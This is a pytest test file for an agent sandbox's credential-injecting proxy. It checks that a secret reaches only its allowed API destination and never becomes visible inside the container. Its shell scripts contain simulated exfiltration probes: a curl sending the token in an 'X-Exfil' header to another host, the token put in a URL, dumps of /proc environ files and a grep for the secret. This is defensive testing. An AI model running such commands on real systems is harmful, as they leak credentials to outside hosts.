"""Credentials the agent uses but never holds (docs/CREDENTIALS.md), end to end.

The lab of test_network.py (agentshim inside a test network namespace, the
upstreams on the lab's loopback): a credential's secret sits in a root-only
file on the "host"; the container asks for it by annotation and gets only a
placeholder. Two clients in the container (curl, busybox wget) send the
placeholder; the upstream — a server of this module that logs what it
received to a file on the host side and answers without echoing it — must see
the real secret on the credential's destination only. The same placeholder
sent to another allowed host arrives stripped and is recorded; a placeholder
in a URL gets 403 with the reason. Finally every record file, the container's
own view (its environment and files) and everything the clients printed are
searched for the secret's bytes.

Not covered here (not built yet): TLS interception. Credentials apply to the
requests the proxy reads, plain HTTP (docs/CREDENTIALS.md, "Status").
"""
import base64
import json
import os

import pytest

from conftest import AGENTSHIM, run  # noqa: F401  (AGENTSHIM: the binary the lab runs)
from test_network import UPSTREAM, NetRun, lab, net_rootfs, out  # noqa: F401  (fixtures)

SECRET = "sk-live-0123456789abcdefSECRETVALUE"

LOGSERVER = r"""
import http.server, json, socketserver, sys
log = sys.argv[3]
class H(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    def reply(self):
        n = int(self.headers.get("Content-Length") or 0)
        if n:
            self.rfile.read(n)
        with open(log, "a") as f:
            f.write(json.dumps({"where": sys.argv[2], "line": self.requestline,
                                "headers": [[k, v] for k, v in self.headers.items()]}) + "\n")
        out = json.dumps({"where": sys.argv[2], "line": self.requestline.split(" ")[0] + " ok"}).encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(out)))
        self.end_headers()
        self.wfile.write(out)
    do_GET = do_POST = do_DELETE = reply
    def log_message(self, *a): pass
class S(socketserver.ThreadingMixIn, http.server.HTTPServer):
    daemon_threads = True
    allow_reuse_address = True
S((sys.argv[1], int(sys.argv[2])), H).serve_forever()
"""


@pytest.fixture(scope="module")
def upstreams(lab, tmp_path_factory):
    """Logging servers on the lab's upstream address: 9001 is the
    credential's API, 9002 another allowed host."""
    d = tmp_path_factory.mktemp("credlog")
    srv = os.path.join(str(d), "logserver.py")
    with open(srv, "w") as f:
        f.write(LOGSERVER)
    log = os.path.join(str(d), "requests.ndjson")
    for port in (9001, 9002):
        lab.spawn(["/usr/bin/python3", srv, UPSTREAM, str(port), log])
        lab.wait_listening(UPSTREAM, port)
    return log


def received(log):
    if not os.path.exists(log):
        return []
    return [json.loads(line) for line in open(log)]


def secret_file(tmp, mode=0o600):
    p = os.path.join(tmp, "api.secret")
    with open(p, "w") as f:
        f.write(SECRET + "\n")
    os.chmod(p, mode)
    return p


def policy_with(tmp, source):
    return {"credentials": {"api": {
        "source": source,
        "placeholder_env": "API_TOKEN",
        "destinations": [{"host": "api.allowed.test", "port": 9001, "path_prefix": "/v1/"}],
        "apply": {"header": "Authorization", "format": "Bearer {}"}}}}


def make_run(lab, net_rootfs, tmp, source, annotate=True):
    n = NetRun(lab, tmp, net_rootfs, ["api.allowed.test:9001", "other.test:9002"])
    with open(n.policy) as f:
        pol = json.load(f)
    pol.update(policy_with(tmp, source))
    with open(n.policy, "w") as f:
        json.dump(pol, f)
    if annotate:
        n.bundle.config["annotations"] = {"dev.agentshim.credentials": "api"}
        n.bundle.save()
    return n


def every_file(root):
    for dirpath, _, files in os.walk(root):
        for name in files:
            p = os.path.join(dirpath, name)
            if os.path.isfile(p) and not os.path.islink(p):
                yield p


def test_secret_reaches_only_its_destination_and_is_never_visible(lab, net_rootfs, upstreams, tmp_path):
    tmp = str(tmp_path)
    n = make_run(lab, net_rootfs, tmp, {"file": secret_file(tmp)})
    before = len(received(upstreams))
    script = (
        'echo "placeholder=$API_TOKEN";'
        # curl and busybox wget: the placeholder where the API expects its key.
        'curl -sS --max-time 10 -H "Authorization: Bearer $API_TOKEN" http://api.allowed.test:9001/v1/models; echo;'
        'wget -q -O - --header "Authorization: Bearer $API_TOKEN" http://api.allowed.test:9001/v1/wget; echo;'
        # No placeholder at all: the proxy adds the header on its destination.
        'curl -sS --max-time 10 http://api.allowed.test:9001/v1/bare; echo;'
        # Outside the path prefix, and another allowed host: stripped.
        'curl -sS --max-time 10 -H "Authorization: Bearer $API_TOKEN" http://api.allowed.test:9001/admin; echo;'
        'curl -sS --max-time 10 -H "X-Exfil: $API_TOKEN" http://other.test:9002/collect; echo;'
        # In a URL: refused with the reason.
        'curl -sS --max-time 10 -w " status=%{http_code}" "http://other.test:9002/c?k=$API_TOKEN"; echo;'
        # The container's own view.
        'echo ENV; cat /proc/self/environ | tr "\\0" "\\n"; echo FILES; cat /proc/1/environ | tr "\\0" "\\n";'
        'grep -rl -s "SECRETVALU[E]" /etc /tmp /run /root /home 2>/dev/null; echo END'
    )
    r = n.sh(script)
    text = out(r) + r.stderr.decode(errors="replace")
    assert r.returncode == 0, text
    placeholder = text.split("placeholder=")[1].split()[0]
    assert placeholder.startswith("agentshim-cred-") and len(placeholder) == 47, text
    assert f"API_TOKEN={placeholder}" in text.split("ENV")[1], text
    assert "status=403" in text and "credential api" in text, text

    got = received(upstreams)[before:]
    by_path = {g["line"].split(" ")[1]: dict((k.lower(), v) for k, v in g["headers"]) for g in got}
    for path in ("/v1/models", "/v1/wget", "/v1/bare"):
        assert by_path[path].get("authorization") == f"Bearer {SECRET}", (path, got)
    assert "authorization" not in by_path["/admin"], got
    assert "x-exfil" not in by_path["/collect"], got
    assert not any(p.startswith("/c?") for p in by_path), got  # the refused one never left
    for g in got:
        assert placeholder not in json.dumps(g), g

    # The record: the applied requests name the credential, the caught ones
    # are denied events; the attestation counts by name.
    conns = [e["data"] for e in n.events({"net.connection"})]
    applied = [c for c in conns if c.get("credential") == "api"]
    assert sorted(c["path"] for c in applied) == ["/v1/bare", "/v1/models", "/v1/wget"], conns
    caught = [e["data"] for e in n.events({"net.credential"})]
    assert sorted(c["action"] for c in caught) == ["denied", "stripped", "stripped"], caught
    assert all(c["decision"] == "denied" and c["credential"] == "api" for c in caught), caught
    ns = n.events({"net.namespace"})[0]["data"]
    assert ns["credentials"] == ["api"], ns
    run_dir = n.last_run_dir()
    envelope = json.load(open(os.path.join(run_dir, "attestation.intoto.json")))
    statement = base64.b64decode(envelope["payload"])
    creds = json.loads(statement)["predicate"]["network"]["credentials"]
    assert creds == {"requests": {"api": 3}, "placeholders_caught": 3}, creds
    assert b"SECRETVALUE" not in statement

    # The secret's bytes: nowhere in the record, the state, the container's
    # files, or what the container printed.
    assert SECRET not in text and "SECRETVALUE" not in text
    for root in (n.audit, n.root, n.bundle.path):
        for p in every_file(root):
            with open(p, "rb") as f:
                assert b"SECRETVALUE" not in f.read(), p


def test_group_readable_secret_file_is_refused(lab, net_rootfs, upstreams, tmp_path):
    tmp = str(tmp_path)
    n = make_run(lab, net_rootfs, tmp, {"file": secret_file(tmp, 0o640)})
    r = n.sh("echo started")
    text = out(r) + r.stderr.decode(errors="replace")
    assert r.returncode != 0 and "started" not in out(r), text
    assert "readable or writable by group or others" in text, text
    assert "SECRETVALUE" not in text


def test_unknown_credential_is_an_error_naming_it(lab, net_rootfs, upstreams, tmp_path):
    tmp = str(tmp_path)
    n = make_run(lab, net_rootfs, tmp, {"file": secret_file(tmp)}, annotate=False)
    n.bundle.config["annotations"] = {"dev.agentshim.credentials": "api,openai"}
    n.bundle.save()
    r = n.sh("echo started")
    text = out(r) + r.stderr.decode(errors="replace")
    assert r.returncode != 0 and "started" not in out(r), text
    assert 'credential "openai", which this policy does not define (defined: api)' in text, text


def test_container_without_the_annotation_gets_nothing(lab, net_rootfs, upstreams, tmp_path):
    """The policy defines the credential, the container never asked: no
    placeholder, no secret added, its own Authorization passes unchanged."""
    tmp = str(tmp_path)
    n = make_run(lab, net_rootfs, tmp, {"file": secret_file(tmp)}, annotate=False)
    before = len(received(upstreams))
    r = n.sh('echo "tok=${API_TOKEN:-unset}";'
             'curl -sS --max-time 10 -H "Authorization: Bearer mine" http://api.allowed.test:9001/v1/own; echo')
    text = out(r)
    assert "tok=unset" in text, text
    got = received(upstreams)[before:]
    assert len(got) == 1 and dict((k.lower(), v) for k, v in got[0]["headers"])["authorization"] == "Bearer mine"
    assert not n.events({"net.credential"})
    assert not any("credential" in e["data"] for e in n.events({"net.connection"}))


def test_request_rules_deny_method_and_path_with_403_and_reason(lab, net_rootfs, upstreams, tmp_path):
    """network.request_rules: GET-only on one destination, checked per request."""
    tmp = str(tmp_path)
    n = NetRun(lab, tmp, net_rootfs, ["api.allowed.test:9001"],
               {"network": {"request_rules": [
                   {"host": "api.allowed.test", "port": 9001, "path_prefix": "/v1/admin", "action": "deny"},
                   {"host": "api.allowed.test", "port": 9001, "methods": ["GET"], "action": "allow"}]}})
    before = len(received(upstreams))
    r = n.sh("curl -sS --max-time 10 http://api.allowed.test:9001/v1/ok; echo;"
             "curl -sS --max-time 10 -w ' status=%{http_code}' -X DELETE http://api.allowed.test:9001/v1/ok; echo;"
             "curl -sS --max-time 10 -w ' status=%{http_code}' http://api.allowed.test:9001/v1/admin/x; echo;"
             "wget -q -O - http://api.allowed.test:9001/v1/admin/y 2>&1; echo wget=$?")
    text = out(r)
    assert '"GET ok"' in text, text
    assert "no request rule for this destination allows DELETE" in text and "status=403" in text, text
    assert "denied by network.request_rules[0]" in text, text
    assert "wget=0" not in text, text
    got = [g["line"] for g in received(upstreams)[before:]]
    assert got == ["GET /v1/ok HTTP/1.1"], got
    denied = [e["data"] for e in n.events({"net.connection"}) if e["data"]["decision"] == "denied"]
    assert len(denied) == 3 and all(d["status"] == 403 for d in denied), denied
    assert {d["rule"] for d in denied} == {"", "network.request_rules[0]"}, denied
